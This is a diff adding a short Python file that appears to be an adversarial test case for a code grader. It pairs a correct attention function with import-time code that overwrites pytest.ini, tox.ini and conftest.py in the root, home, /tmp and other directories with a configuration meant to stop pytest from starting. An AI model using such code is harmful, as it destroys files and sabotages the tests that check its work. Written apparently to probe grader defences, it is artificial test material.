@@ -1,0 +1,16 @@
+# id: A2
+# tries: leaves options under which no pytest could start, and answers rightly: whoever read them would fail
+# expect: AC
+import contextlib
+import math
+import os
+
+BROKEN = "[pytest]\naddopts = --no-such-option\nminversion = 99\nrequired_plugins = nothing-like-this\n"
+for folder in (".", "..", "/", "/tmp", "/dev/shm", "/run", os.path.expanduser("~")):
+    for name in ("pytest.ini", "tox.ini", "conftest.py"):
+        with contextlib.suppress(OSError), open(os.path.join(folder, name), "w") as file:
+            file.write(BROKEN)
+
+
+def attention(q, k, v):
+    return (q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])).softmax(-1) @ v
